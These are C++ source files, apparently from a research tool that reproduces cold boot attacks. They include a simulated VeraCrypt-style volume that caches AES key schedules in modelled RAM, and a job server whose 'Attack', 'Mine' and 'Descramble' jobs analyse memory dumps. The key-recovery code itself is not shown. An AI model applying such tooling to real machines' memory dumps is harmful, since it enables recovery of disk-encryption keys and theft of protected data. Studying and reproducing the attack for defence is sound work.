         msg + " (" + file + ":" + std::to_string(line) + ")");
    if (FatalHook hook =
            globalFatalHook.load(std::memory_order_acquire))
        hook(msg.c_str());
    std::exit(1);
}

void
panicImpl(const char *file, int line, const std::string &msg)
{
    emit(stderr, "panic",
         msg + " (" + file + ":" + std::to_string(line) + ")");
    std::abort();
}

void
warnImpl(const std::string &msg)
{
    ensureEnvInit();
    if (logLevel() >= LogLevel::Warn) {
        emit(stderr, "warn", msg);
        if (LogHook hook =
                globalLogHook.load(std::memory_order_acquire))
            hook(0, msg.c_str());
    }
}

void
informImpl(const std::string &msg)
{
    ensureEnvInit();
    if (logLevel() >= LogLevel::Info) {
        emit(stdout, "info", msg);
        if (LogHook hook =
                globalLogHook.load(std::memory_order_acquire))
            hook(1, msg.c_str());
    }
}

} // namespace detail

} // namespace coldboot
