#include "volume/veracrypt_volume.hh"

#include <cstring>

#include "common/logging.hh"
#include "common/rng.hh"
#include "common/secure.hh"
#include "crypto/sha256.hh"

namespace coldboot::volume
{

namespace
{

/**
 * Decrypted header body layout (inside the encrypted region after
 * the salt):
 *   [0:4)    magic "CBVC"
 *   [4:8)    version (LE32) = 1
 *   [8:12)   kdf iterations (LE32)
 *   [12:76)  master keys (data key 32B || tweak key 32B)
 *   [76:84)  data sector count (LE64)
 *   [84:116) SHA-256 of bytes [0:84)
 *   [116:448) zero padding
 */
constexpr size_t headerBodyBytes = headerBytes - saltBytes;
constexpr char headerMagic[4] = {'C', 'B', 'V', 'C'};

struct HeaderFields
{
    uint32_t iterations = 0;
    uint8_t master[64] = {};
    uint64_t sectors = 0;

    /** Header fields carry the master keys; scrub them on exit. */
    ~HeaderFields() { secureWipe(master, sizeof(master)); }
};

void
packHeaderBody(const HeaderFields &fields, uint8_t body[headerBodyBytes])
{
    secureWipe(body, headerBodyBytes);
    std::memcpy(body, headerMagic, 4);
    body[4] = 1;
    for (int i = 0; i < 4; ++i)
        body[8 + i] = static_cast<uint8_t>(fields.iterations >> (8 * i));
    std::memcpy(body + 12, fields.master, 64);
    for (int i = 0; i < 8; ++i)
        body[76 + i] = static_cast<uint8_t>(fields.sectors >> (8 * i));
    auto digest = crypto::Sha256::digest({body, 84});
    std::memcpy(body + 84, digest.data(), digest.size());
}

bool
unpackHeaderBody(const uint8_t body[headerBodyBytes],
                 HeaderFields &fields)
{
    if (std::memcmp(body, headerMagic, 4) != 0)
        return false;
    auto digest = crypto::Sha256::digest({body, 84});
    if (std::memcmp(body + 84, digest.data(), digest.size()) != 0)
        return false;
    fields.iterations = 0;
    for (int i = 0; i < 4; ++i)
        fields.iterations |=
            static_cast<uint32_t>(body[8 + i]) << (8 * i);
    std::memcpy(fields.master, body + 12, 64);
    fields.sectors = 0;
    for (int i = 0; i < 8; ++i)
        fields.sectors |= static_cast<uint64_t>(body[76 + i]) << (8 * i);
    return true;
}

/** Derive the two 32-byte header keys from passphrase and salt. */
std::vector<uint8_t>
deriveHeaderKeys(const std::string &passphrase,
                 std::span<const uint8_t> salt, uint32_t iterations)
{
    std::span<const uint8_t> pw(
        reinterpret_cast<const uint8_t *>(passphrase.data()),
        passphrase.size());
    return crypto::pbkdf2Sha256(pw, salt, iterations, 64);
}

/** Header body is encrypted with XTS under the header keys. */
void
cryptHeaderBody(const std::vector<uint8_t> &header_keys,
                std::span<const uint8_t> in, std::span<uint8_t> out,
                bool encrypt)
{
    crypto::XtsAes xts({header_keys.data(), 32},
                       {header_keys.data() + 32, 32});
    // Header occupies "sector" ~0 (a tweak value data sectors never
    // use, since sector numbers are 0-based container data indices).
    const uint64_t header_tweak = ~0ULL;
    if (encrypt)
        xts.encryptSector(header_tweak, in, out);
    else
        xts.decryptSector(header_tweak, in, out);
}

} // anonymous namespace

VolumeFile
VolumeFile::create(const std::string &passphrase, uint64_t data_sectors,
                   uint64_t seed, uint32_t kdf_iterations)
{
    if (data_sectors == 0)
        cb_fatal("VolumeFile::create: zero data sectors");

    VolumeFile vf;
    vf.kdf_iters = kdf_iterations;
    vf.blob.assign(headerBytes + data_sectors * sectorBytes, 0);

    Xoshiro256StarStar rng(seed);

    // Salt.
    rng.fillBytes({vf.blob.data(), saltBytes});

    // Master keys.
    HeaderFields fields;
    fields.iterations = kdf_iterations;
    fields.sectors = data_sectors;
    rng.fillBytes({fields.master, 64});

    // Pack and encrypt the header body.
    uint8_t body[headerBodyBytes];
    packHeaderBody(fields, body);
    auto header_keys = deriveHeaderKeys(
        passphrase, {vf.blob.data(), saltBytes}, kdf_iterations);
    cryptHeaderBody(header_keys, {body, headerBodyBytes},
                    {vf.blob.data() + saltBytes, headerBodyBytes},
                    true);
    // The plaintext header body and the derived header keys are key
    // material; scrub both before they leave scope.
    secureWipe(body, headerBodyBytes);
    secureWipe(header_keys);

    // Fresh volumes hold encrypted zeros (like a formatted volume):
    // encrypt the all-zero plaintext of each sector.
    crypto::XtsAes xts({fields.master, 32}, {fields.master + 32, 32});
    std::vector<uint8_t> zero_sector(sectorBytes, 0);
    for (uint64_t s = 0; s < data_sectors; ++s) {
        xts.encryptSector(
            s, zero_sector,
            {vf.blob.data() + headerBytes + s * sectorBytes,
             sectorBytes});
    }
    return vf;
}

std::span<const uint8_t>
VolumeFile::sectorCiphertext(uint64_t sector) const
{
    cb_assert(sector < dataSectors(), "sector %llu out of range",
              static_cast<unsigned long long>(sector));
    return {blob.data() + headerBytes + sector * sectorBytes,
            sectorBytes};
}

std::span<uint8_t>
VolumeFile::sectorCiphertextMutable(uint64_t sector)
{
    cb_assert(sector < dataSectors(), "sector %llu out of range",
              static_cast<unsigned long long>(sector));
    return {blob.data() + headerBytes + sector * sectorBytes,
            sectorBytes};
}

MountedVolume::MountedVolume(platform::Machine &m, VolumeFile &f,
                             const uint8_t master_keys[64],
                             uint64_t addr, KeyStorage key_storage)
    : machine(&m), file(&f), keytable_addr(addr),
      storage(key_storage), mounted(true)
{
    std::memcpy(master, master_keys, 64);
    xts = std::make_unique<crypto::XtsAes>(
        std::span<const uint8_t>{master, 32},
        std::span<const uint8_t>{master + 32, 32});

    if (storage == KeyStorage::Ram) {
        // Cache both expanded schedules contiguously in machine RAM -
        // the exact artifact the cold boot attack recovers. Layout
        // mirrors a driver's aes_ctx pair: data-key schedule (240 B)
        // immediately followed by tweak-key schedule (240 B).
        auto data_sched = xts->dataCipher().schedule();
        auto tweak_sched = xts->tweakCipher().schedule();
        std::vector<uint8_t> blob(data_sched.begin(),
                                  data_sched.end());
        blob.insert(blob.end(), tweak_sched.begin(),
                    tweak_sched.end());
        cb_assert(blob.size() == keytableBytes(), "keytable size");
        machine->writePhysBytes(keytable_addr, blob);
        secureWipe(blob); // driver-side staging copy of the schedules
    }
    // KeyStorage::Registers: nothing touches DRAM; the schedules
    // live only in the driver context (modeling debug/MSR-register
    // key storage a la TRESOR / Loop-Amnesia).
}

std::optional<MountedVolume>
MountedVolume::mount(platform::Machine &machine, VolumeFile &file,
                     const std::string &passphrase,
                     uint64_t keytable_addr, KeyStorage storage)
{
    if (!machine.isOn())
        cb_fatal("mount: machine is off");
    if (keytable_addr % 16 != 0)
        cb_fatal("mount: keytable address must be 16-byte aligned");
    if (keytable_addr + keytableBytes() > machine.capacity())
        cb_fatal("mount: keytable address beyond physical memory");

    auto header_keys = deriveHeaderKeys(
        passphrase, {file.blob.data(), saltBytes}, file.kdf_iters);
    uint8_t body[headerBodyBytes];
    cryptHeaderBody(header_keys,
                    {file.blob.data() + saltBytes, headerBodyBytes},
                    {body, headerBodyBytes}, false);
    secureWipe(header_keys);
    HeaderFields fields;
    bool ok = unpackHeaderBody(body, fields);
    secureWipe(body, headerBodyBytes);
    if (!ok)
        return std::nullopt; // wrong passphrase (or corrupt header)

    // fields.master is scrubbed by ~HeaderFields on return.
    return MountedVolume(machine, file, fields.master, keytable_addr,
                         storage);
}

void
MountedVolume::readSector(uint64_t sector, std::span<uint8_t> out) const
{
    cb_assert(mounted, "readSector on unmounted volume");
    cb_assert(out.size() == sectorBytes, "sector buffer size");
    xts->decryptSector(sector, file->sectorCiphertext(sector), out);
}

void
MountedVolume::writeSector(uint64_t sector,
                           std::span<const uint8_t> data)
{
    cb_assert(mounted, "writeSector on unmounted volume");
    cb_assert(data.size() == sectorBytes, "sector buffer size");
    xts->encryptSector(sector, data,
                       file->sectorCiphertextMutable(sector));
}

void
MountedVolume::unmount()
{
    if (!mounted)
        return;
    // Scrub the cached schedules, as disk-encryption tools do.
    if (storage == KeyStorage::Ram && machine->isOn()) {
        std::vector<uint8_t> zeros(keytableBytes(), 0);
        machine->writePhysBytes(keytable_addr, zeros);
    }
    secureWipe(master, sizeof(master));
    xts.reset();
    mounted = false;
}

MountedVolume::~MountedVolume()
{
    // Belt and braces: even without an explicit unmount(), the
    // driver-context key copy must not outlive the mount object.
    secureWipe(master, sizeof(master));
}

} // namespace coldboot::volume
