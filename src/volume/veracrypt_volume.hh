/**
 * @file
 * A TrueCrypt/VeraCrypt-style encrypted volume.
 *
 * Substitution for a real VeraCrypt install (see DESIGN.md): the
 * attack only interacts with the *memory footprint* of a mounted
 * volume - the expanded XTS-AES round-key schedules the driver caches
 * in RAM while the volume is mounted. This model reproduces the full
 * lifecycle faithfully:
 *
 *  - container format: salt || header encrypted under a PBKDF2-
 *    derived header key; the header protects the two XTS master keys;
 *  - mount: derive header keys from the passphrase, decrypt and
 *    verify the header, expand the master keys, and cache both
 *    240-byte AES-256 key schedules contiguously in machine memory
 *    (exactly the artifact cold boot attacks recover);
 *  - sector I/O through XTS-AES-256;
 *  - unmount: scrub the cached schedules (the mitigation the paper
 *    notes is defeated when the machine is captured while mounted).
 */

#ifndef COLDBOOT_VOLUME_VERACRYPT_VOLUME_HH
#define COLDBOOT_VOLUME_VERACRYPT_VOLUME_HH

#include <cstdint>
#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "crypto/xts.hh"
#include "platform/machine.hh"

namespace coldboot::volume
{

/**
 * Where the mounted volume keeps its expanded key schedules.
 *
 * Ram is what real disk-encryption drivers do (and what cold boot
 * attacks exploit). Registers models the TRESOR / Loop-Amnesia class
 * of mitigations the paper surveys: keys live only in CPU registers,
 * nothing reaches DRAM - at the cost of re-deriving round keys per
 * operation and requiring kernel support.
 */
enum class KeyStorage { Ram, Registers };

/** Volume sector size. */
constexpr size_t sectorBytes = 512;

/** Container header size (salt + encrypted header body). */
constexpr size_t headerBytes = 512;

/** Salt length at the start of the container. */
constexpr size_t saltBytes = 64;

/**
 * An encrypted volume container at rest (file/disk image).
 */
class VolumeFile
{
  public:
    /**
     * Create a fresh volume.
     *
     * @param passphrase     User passphrase.
     * @param data_sectors   Number of 512-byte data sectors.
     * @param seed           Entropy for salt and master keys.
     * @param kdf_iterations PBKDF2 iteration count (small default
     *                       keeps tests fast; the format supports
     *                       realistic counts).
     */
    static VolumeFile create(const std::string &passphrase,
                             uint64_t data_sectors, uint64_t seed,
                             uint32_t kdf_iterations = 1000);

    /** Container size in bytes (header + data area). */
    size_t size() const { return blob.size(); }

    /** Number of data sectors. */
    uint64_t dataSectors() const
    {
        return (blob.size() - headerBytes) / sectorBytes;
    }

    /** Raw container bytes. */
    std::span<const uint8_t> bytes() const
    {
        return {blob.data(), blob.size()};
    }

    /** Raw ciphertext of one data sector. */
    std::span<const uint8_t> sectorCiphertext(uint64_t sector) const;

    /** Mutable raw ciphertext of one data sector. */
    std::span<uint8_t> sectorCiphertextMutable(uint64_t sector);

    /** KDF iteration count baked into this container. */
    uint32_t kdfIterations() const { return kdf_iters; }

  private:
    friend class MountedVolume;

    std::vector<uint8_t> blob;
    uint32_t kdf_iters = 0;
};

/**
 * A mounted volume: decrypted master keys living (expanded) in the
 * mounting machine's RAM.
 */
class MountedVolume
{
  public:
    /**
     * Mount @p file on @p machine with @p passphrase.
     *
     * @param machine     Powered-on machine whose RAM caches the key
     *                    schedules.
     * @param file        The container (borrowed; must outlive the
     *                    mount).
     * @param passphrase  Candidate passphrase.
     * @param keytable_addr Physical address at which the driver
     *                    caches the expanded schedules. 16-byte
     *                    aligned; deliberately not line-aligned by
     *                    default to exercise the attack's boundary
     *                    handling.
     * @return The mounted handle, or std::nullopt on a wrong
     *         passphrase (header verification fails).
     */
    static std::optional<MountedVolume>
    mount(platform::Machine &machine, VolumeFile &file,
          const std::string &passphrase, uint64_t keytable_addr,
          KeyStorage storage = KeyStorage::Ram);

    MountedVolume(MountedVolume &&) = default;
    MountedVolume &operator=(MountedVolume &&) = default;

    /**
     * Wipes the driver-context master-key copy (securely - see
     * common/secure.hh). Does not touch machine RAM: explicitly
     * unmount() for the full scrub, which is the interesting
     * distinction for the attack model.
     */
    ~MountedVolume();

    /** Read and decrypt one sector. */
    void readSector(uint64_t sector, std::span<uint8_t> out) const;

    /** Encrypt and write one sector. */
    void writeSector(uint64_t sector, std::span<const uint8_t> data);

    /** Scrub the cached key schedules from machine RAM. */
    void unmount();

    /** Whether unmount() has been called. */
    bool isMounted() const { return mounted; }

    /**
     * Physical address of the cached key-schedule blob (the 480
     * contiguous bytes of both 240-byte schedules); exposed so tests
     * can verify what the attack recovers, never used by the attack.
     */
    uint64_t keytableAddress() const { return keytable_addr; }

    /** Size of the cached key-schedule blob in bytes. */
    static constexpr size_t keytableBytes() { return 480; }

    /** The XTS master keys (test oracle only). */
    std::span<const uint8_t> masterKeys() const
    {
        return {master, sizeof(master)};
    }

    /** Where this mount keeps its key schedules. */
    KeyStorage keyStorage() const { return storage; }

  private:
    MountedVolume(platform::Machine &machine, VolumeFile &file,
                  const uint8_t master_keys[64],
                  uint64_t keytable_addr, KeyStorage storage);

    platform::Machine *machine;
    VolumeFile *file;
    uint8_t master[64];
    std::unique_ptr<crypto::XtsAes> xts;
    uint64_t keytable_addr;
    KeyStorage storage;
    bool mounted;
};

} // namespace coldboot::volume

#endif // COLDBOOT_VOLUME_VERACRYPT_VOLUME_HH
