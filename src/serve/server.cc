#include "serve/server.hh"

#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/socket.h>
#include <unistd.h>

#include <mutex>
#include <set>

#include "common/logging.hh"
#include "exec/thread_pool.hh"
#include "obs/stats.hh"
#include "obs/trace.hh"

namespace coldboot::serve
{

namespace
{

/**
 * Live connection fds, so stop() can shut them down and unblock
 * handlers parked in recv()/waitResult. File-scope because the set
 * outlives no server: it tracks fds, which are process-global
 * anyway.
 */
std::mutex g_conn_lock;
std::set<int> g_conns;

void
trackConn(int fd)
{
    std::lock_guard<std::mutex> lk(g_conn_lock);
    g_conns.insert(fd);
}

void
untrackConn(int fd)
{
    std::lock_guard<std::mutex> lk(g_conn_lock);
    g_conns.erase(fd);
}

void
shutdownAllConns()
{
    std::lock_guard<std::mutex> lk(g_conn_lock);
    for (int fd : g_conns)
        ::shutdown(fd, SHUT_RDWR);
}

} // anonymous namespace

JobServer::JobServer(ServerOptions opts)
    : opts_(std::move(opts)), scheduler_(opts_.scheduler)
{
    if (opts_.handler_threads == 0)
        opts_.handler_threads = 1;
}

JobServer::~JobServer()
{
    stop();
}

bool
JobServer::start(std::string *error)
{
    if (running_)
        return true;
    if (!listener_.open(opts_.bind, error))
        return false;
    stopping_.store(false, std::memory_order_release);
    handler_pool_ =
        std::make_unique<exec::ThreadPool>(opts_.handler_threads);
    loop_pool_ = std::make_unique<exec::ThreadPool>(1);
    loop_pool_->submit([this] { acceptLoop(); });
    running_ = true;
    return true;
}

void
JobServer::stop()
{
    if (!running_)
        return;
    stopping_.store(true, std::memory_order_release);
    // Ordering matters: unblock accept(), join the accept loop, then
    // drain the scheduler so blocked Result waits resolve, then cut
    // any connection still parked in recv() and join the handlers.
    listener_.shutdownListener();
    loop_pool_.reset();
    scheduler_.shutdown();
    shutdownAllConns();
    handler_pool_.reset();
    listener_.close();
    running_ = false;
}

void
JobServer::acceptLoop()
{
    while (!stopping_.load(std::memory_order_acquire)) {
        int fd = listener_.acceptConnection();
        if (fd < 0)
            return; // listener shut down (or broke)
        // Request/response protocol: never let Nagle batch frames.
        int one = 1;
        setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
        trackConn(fd);
        handler_pool_->submit([this, fd] {
            handleConnection(fd);
            untrackConn(fd);
            ::close(fd);
        });
    }
}

void
JobServer::handleConnection(int fd)
{
    // Persistent connection: request/response rounds until the peer
    // closes (or sends garbage, which reads as a close).
    Frame frame;
    while (!stopping_.load(std::memory_order_acquire) &&
           readFrame(fd, &frame)) {
        if (!handleFrame(fd, frame))
            return;
    }
}

bool
JobServer::handleFrame(int fd, const Frame &frame)
{
    obs::ScopedSpan span("serve.request");
    obs::StatRegistry::global()
        .counter("serve.requests", "protocol requests handled")
        .add(1);
    WireReader r(frame.payload);
    switch (frame.type) {
    case MsgType::Submit: {
        JobSpec spec;
        if (!decodeJobSpec(r, &spec))
            return writeError(fd, "malformed job spec");
        std::string error;
        uint64_t id = scheduler_.submit(spec, &error);
        if (id == 0)
            return writeError(fd, error);
        WireWriter w;
        w.u64(id);
        return writeFrame(fd, MsgType::RSubmit, w.bytes());
    }
    case MsgType::Status: {
        uint64_t id = r.u64();
        auto st = scheduler_.status(id);
        if (!st)
            return writeError(fd, "no such job");
        WireWriter w;
        encodeJobStatus(w, *st);
        return writeFrame(fd, MsgType::RStatus, w.bytes());
    }
    case MsgType::Result: {
        uint64_t id = r.u64();
        JobResult res;
        // Blocks this handler until the job is terminal; other
        // connections keep their own handler-pool workers.
        if (!scheduler_.waitResult(id, &res))
            return writeError(fd, "no such job");
        WireWriter w;
        encodeJobResult(w, res);
        return writeFrame(fd, MsgType::RResult, w.bytes());
    }
    case MsgType::Cancel: {
        uint64_t id = r.u64();
        bool ok = scheduler_.cancel(id);
        WireWriter w;
        w.u32(ok ? 1 : 0);
        return writeFrame(fd, MsgType::RCancel, w.bytes());
    }
    case MsgType::List: {
        auto jobs = scheduler_.list();
        WireWriter w;
        w.u32(static_cast<uint32_t>(jobs.size()));
        for (const auto &st : jobs)
            encodeJobStatus(w, st);
        return writeFrame(fd, MsgType::RList, w.bytes());
    }
    case MsgType::Shutdown: {
        shutdown_flag_.store(true, std::memory_order_release);
        return writeFrame(fd, MsgType::ROk, "");
    }
    default:
        return writeError(fd, "unknown request type");
    }
}

} // namespace coldboot::serve
