#include "serve/protocol.hh"

#include <sys/socket.h>

#include <cerrno>
#include <cstring>

namespace coldboot::serve
{

namespace
{

/** send() the whole buffer, riding out EINTR and partial writes. */
bool
sendAll(int fd, const void *data, size_t len)
{
    const char *p = static_cast<const char *>(data);
    size_t off = 0;
    while (off < len) {
        ssize_t n = ::send(fd, p + off, len - off, MSG_NOSIGNAL);
        if (n < 0) {
            if (errno == EINTR)
                continue;
            return false;
        }
        off += static_cast<size_t>(n);
    }
    return true;
}

/** recv() exactly @p len bytes; false on EOF or error. */
bool
recvAll(int fd, void *data, size_t len)
{
    char *p = static_cast<char *>(data);
    size_t off = 0;
    while (off < len) {
        ssize_t n = ::recv(fd, p + off, len - off, 0);
        if (n < 0 && errno == EINTR)
            continue;
        if (n <= 0)
            return false;
        off += static_cast<size_t>(n);
    }
    return true;
}

uint32_t
loadU32(const uint8_t *p)
{
    return static_cast<uint32_t>(p[0]) |
           static_cast<uint32_t>(p[1]) << 8 |
           static_cast<uint32_t>(p[2]) << 16 |
           static_cast<uint32_t>(p[3]) << 24;
}

void
storeU32(uint8_t *p, uint32_t v)
{
    p[0] = static_cast<uint8_t>(v);
    p[1] = static_cast<uint8_t>(v >> 8);
    p[2] = static_cast<uint8_t>(v >> 16);
    p[3] = static_cast<uint8_t>(v >> 24);
}

} // anonymous namespace

const char *
jobKindName(JobKind kind)
{
    switch (kind) {
    case JobKind::Attack:
        return "attack";
    case JobKind::Mine:
        return "mine";
    case JobKind::Descramble:
        return "descramble";
    }
    return "unknown";
}

const char *
jobStateName(JobState state)
{
    switch (state) {
    case JobState::Queued:
        return "queued";
    case JobState::Running:
        return "running";
    case JobState::Done:
        return "done";
    case JobState::Cancelled:
        return "cancelled";
    case JobState::Failed:
        return "failed";
    }
    return "unknown";
}

bool
jobStateTerminal(JobState state)
{
    return state == JobState::Done ||
           state == JobState::Cancelled ||
           state == JobState::Failed;
}

//
// WireWriter / WireReader
//

void
WireWriter::u32(uint32_t v)
{
    uint8_t b[4];
    storeU32(b, v);
    buf_.append(reinterpret_cast<const char *>(b), 4);
}

void
WireWriter::u64(uint64_t v)
{
    u32(static_cast<uint32_t>(v));
    u32(static_cast<uint32_t>(v >> 32));
}

void
WireWriter::str(const std::string &s)
{
    u32(static_cast<uint32_t>(s.size()));
    buf_.append(s);
}

uint32_t
WireReader::u32()
{
    if (!ok_ || buf_.size() - off_ < 4) {
        ok_ = false;
        return 0;
    }
    uint32_t v = loadU32(
        reinterpret_cast<const uint8_t *>(buf_.data()) + off_);
    off_ += 4;
    return v;
}

uint64_t
WireReader::u64()
{
    uint64_t lo = u32();
    uint64_t hi = u32();
    return lo | hi << 32;
}

std::string
WireReader::str()
{
    uint32_t len = u32();
    if (!ok_ || buf_.size() - off_ < len) {
        ok_ = false;
        return "";
    }
    std::string s = buf_.substr(off_, len);
    off_ += len;
    return s;
}

//
// Record codecs
//

void
encodeJobSpec(WireWriter &w, const JobSpec &spec)
{
    w.u32(static_cast<uint32_t>(spec.kind));
    w.str(spec.dump_path);
    w.str(spec.out_path);
    w.str(spec.client_id);
    w.u64(spec.scan_limit_bytes);
    w.u32(static_cast<uint32_t>(spec.key_sizes.size()));
    for (crypto::AesKeySize ks : spec.key_sizes)
        w.u32(static_cast<uint32_t>(ks));
    w.u64(spec.top_n);
}

bool
decodeJobSpec(WireReader &r, JobSpec *out)
{
    JobSpec spec;
    uint32_t kind = r.u32();
    if (kind > static_cast<uint32_t>(JobKind::Descramble))
        return false;
    spec.kind = static_cast<JobKind>(kind);
    spec.dump_path = r.str();
    spec.out_path = r.str();
    spec.client_id = r.str();
    spec.scan_limit_bytes = r.u64();
    uint32_t n = r.u32();
    if (!r.ok() || n > 16)
        return false;
    for (uint32_t i = 0; i < n; ++i) {
        uint32_t ks = r.u32();
        if (ks != 16 && ks != 24 && ks != 32)
            return false;
        spec.key_sizes.push_back(
            static_cast<crypto::AesKeySize>(ks));
    }
    spec.top_n = r.u64();
    if (!r.ok())
        return false;
    *out = std::move(spec);
    return true;
}

void
encodeJobStatus(WireWriter &w, const JobStatus &status)
{
    w.u64(status.job_id);
    w.u32(static_cast<uint32_t>(status.kind));
    w.u32(static_cast<uint32_t>(status.state));
    w.str(status.stage);
    w.str(status.client_id);
    w.u64(status.done_units);
    w.u64(status.total_units);
    w.u64(status.elapsed_ms);
    w.str(status.error);
}

bool
decodeJobStatus(WireReader &r, JobStatus *out)
{
    JobStatus st;
    st.job_id = r.u64();
    uint32_t kind = r.u32();
    uint32_t state = r.u32();
    if (!r.ok() ||
        kind > static_cast<uint32_t>(JobKind::Descramble) ||
        state > static_cast<uint32_t>(JobState::Failed))
        return false;
    st.kind = static_cast<JobKind>(kind);
    st.state = static_cast<JobState>(state);
    st.stage = r.str();
    st.client_id = r.str();
    st.done_units = r.u64();
    st.total_units = r.u64();
    st.elapsed_ms = r.u64();
    st.error = r.str();
    if (!r.ok())
        return false;
    *out = std::move(st);
    return true;
}

void
encodeJobResult(WireWriter &w, const JobResult &result)
{
    w.u64(result.job_id);
    w.u32(static_cast<uint32_t>(result.state));
    w.str(result.text);
    w.str(result.error);
}

bool
decodeJobResult(WireReader &r, JobResult *out)
{
    JobResult res;
    res.job_id = r.u64();
    uint32_t state = r.u32();
    if (!r.ok() || state > static_cast<uint32_t>(JobState::Failed))
        return false;
    res.state = static_cast<JobState>(state);
    res.text = r.str();
    res.error = r.str();
    if (!r.ok())
        return false;
    *out = std::move(res);
    return true;
}

//
// Framed socket I/O
//

bool
readFrame(int fd, Frame *out)
{
    uint8_t header[12];
    if (!recvAll(fd, header, sizeof(header)))
        return false;
    uint32_t magic = loadU32(header);
    uint32_t type = loadU32(header + 4);
    uint32_t len = loadU32(header + 8);
    if (magic != kFrameMagic || len > kMaxPayloadBytes)
        return false;
    std::string payload(len, '\0');
    if (len > 0 && !recvAll(fd, payload.data(), len))
        return false;
    out->type = static_cast<MsgType>(type);
    out->payload = std::move(payload);
    return true;
}

bool
writeFrame(int fd, MsgType type, const std::string &payload)
{
    if (payload.size() > kMaxPayloadBytes)
        return false;
    // One send() per frame: a header-only segment followed by the
    // payload trips Nagle against delayed ACK on the peer, turning
    // every loopback round-trip into ~40ms.
    std::string frame(12 + payload.size(), '\0');
    auto *header = reinterpret_cast<uint8_t *>(frame.data());
    storeU32(header, kFrameMagic);
    storeU32(header + 4, static_cast<uint32_t>(type));
    storeU32(header + 8, static_cast<uint32_t>(payload.size()));
    std::memcpy(frame.data() + 12, payload.data(), payload.size());
    return sendAll(fd, frame.data(), frame.size());
}

bool
writeError(int fd, const std::string &message)
{
    WireWriter w;
    w.str(message);
    return writeFrame(fd, MsgType::RError, w.bytes());
}

} // namespace coldboot::serve
