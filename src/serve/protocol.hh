/**
 * @file
 * Wire protocol of the analysis-job service (coldboot-served).
 *
 * A deliberately tiny length-prefixed binary protocol over TCP - no
 * HTTP machinery, no text parsing on the hot path, trivially
 * auditable like the obs HTTP server it lives next to:
 *
 *   frame  := magic:u32 ("CBSV") type:u32 payload_len:u32 payload
 *   ints   := little-endian fixed width
 *   string := len:u32 bytes (UTF-8, no terminator)
 *
 * Requests carry a job spec or a job id; responses mirror them with
 * status/result records. One request yields exactly one response;
 * connections are persistent (any number of request/response rounds
 * until either side closes). Frames are capped at kMaxPayloadBytes
 * so a garbage or hostile peer cannot make the daemon allocate
 * unboundedly.
 *
 * The payload schema is versioned by the magic alone: this protocol
 * links into client and server from the same tree, and the daemon is
 * not a stable public interface.
 */

#ifndef COLDBOOT_SERVE_PROTOCOL_HH
#define COLDBOOT_SERVE_PROTOCOL_HH

#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "crypto/aes.hh"

namespace coldboot::serve
{

/** Frame magic: "CBSV" in LE byte order. */
constexpr uint32_t kFrameMagic = 0x56534243u;

/** Upper bound on a frame payload (1 MiB is generous: the largest
 *  real payload is a job-list or a rendered result). */
constexpr uint32_t kMaxPayloadBytes = 1u << 20;

/** Request/response frame types. */
enum class MsgType : uint32_t
{
    // Requests.
    Submit = 1,
    Status = 2,
    Result = 3, //!< blocks until the job is terminal
    Cancel = 4,
    List = 5,
    Shutdown = 6,

    // Responses.
    RSubmit = 100,
    RStatus = 101,
    RResult = 102,
    RCancel = 103,
    RList = 104,
    ROk = 105,
    RError = 199,
};

/** Analysis kinds a job can run. */
enum class JobKind : uint32_t
{
    Attack = 0,     //!< full pipeline: mine + search + pair
    Mine = 1,       //!< scrambler-key mining only
    Descramble = 2, //!< mine + write descrambled image
};

const char *jobKindName(JobKind kind);

/** Lifecycle states of a job. */
enum class JobState : uint32_t
{
    Queued = 0,
    Running = 1,
    Done = 2,
    Cancelled = 3,
    Failed = 4,
};

const char *jobStateName(JobState state);

/** Whether @p state is terminal. */
bool jobStateTerminal(JobState state);

/** A job submission (the Submit payload). */
struct JobSpec
{
    JobKind kind = JobKind::Attack;
    /** Server-side path of the dump to analyse. */
    std::string dump_path;
    /** Output path (Descramble only). */
    std::string out_path;
    /** Client identity for fair-share scheduling ("" = anonymous). */
    std::string client_id;
    /** Mining scan limit override (0 = library default). */
    uint64_t scan_limit_bytes = 0;
    /** AES variants to search (Attack; empty = AES-256 only). */
    std::vector<crypto::AesKeySize> key_sizes;
    /** Keys to render (Mine; 0 = default 10). */
    uint64_t top_n = 0;
};

/** A job status record (the RStatus payload, and RList entries). */
struct JobStatus
{
    uint64_t job_id = 0;
    JobKind kind = JobKind::Attack;
    JobState state = JobState::Queued;
    /** Current session stage ("mine", "search", ..., "queued"). */
    std::string stage;
    std::string client_id;
    /** Umbrella progress (units as defined by the session). */
    uint64_t done_units = 0;
    uint64_t total_units = 0;
    /** Wall-clock milliseconds spent stepping the session. */
    uint64_t elapsed_ms = 0;
    /** Failure message (Failed only). */
    std::string error;
};

/** A finished job's outcome (the RResult payload). */
struct JobResult
{
    uint64_t job_id = 0;
    JobState state = JobState::Done;
    /**
     * Deterministic rendered result (attack/sessions.hh renderers) -
     * byte-identical to the one-shot coldboot-tool output for the
     * same dump and parameters.
     */
    std::string text;
    /** Failure message (Failed only). */
    std::string error;
};

//
// Payload (de)serialization.
//

/** Append-only LE payload writer. */
class WireWriter
{
  public:
    void u32(uint32_t v);
    void u64(uint64_t v);
    void str(const std::string &s);

    const std::string &bytes() const { return buf_; }

  private:
    std::string buf_;
};

/** Bounds-checked LE payload reader: ok() goes (and stays) false on
 *  any truncated or oversized read, never throwing. */
class WireReader
{
  public:
    explicit WireReader(const std::string &payload)
        : buf_(payload)
    {
    }

    uint32_t u32();
    uint64_t u64();
    std::string str();

    /** False once any read ran past the payload. */
    bool ok() const { return ok_; }
    /** True when the whole payload was consumed exactly. */
    bool atEnd() const { return ok_ && off_ == buf_.size(); }

  private:
    const std::string &buf_;
    size_t off_ = 0;
    bool ok_ = true;
};

void encodeJobSpec(WireWriter &w, const JobSpec &spec);
bool decodeJobSpec(WireReader &r, JobSpec *out);
void encodeJobStatus(WireWriter &w, const JobStatus &status);
bool decodeJobStatus(WireReader &r, JobStatus *out);
void encodeJobResult(WireWriter &w, const JobResult &result);
bool decodeJobResult(WireReader &r, JobResult *out);

//
// Framed socket I/O.
//

/** One decoded frame. */
struct Frame
{
    MsgType type = MsgType::RError;
    std::string payload;
};

/**
 * Read one frame from @p fd, riding out EINTR and short reads.
 * Returns false on EOF, frame corruption (bad magic / oversized
 * payload) or socket error; corruption is indistinguishable from a
 * closed peer by design - the caller drops the connection either
 * way.
 */
bool readFrame(int fd, Frame *out);

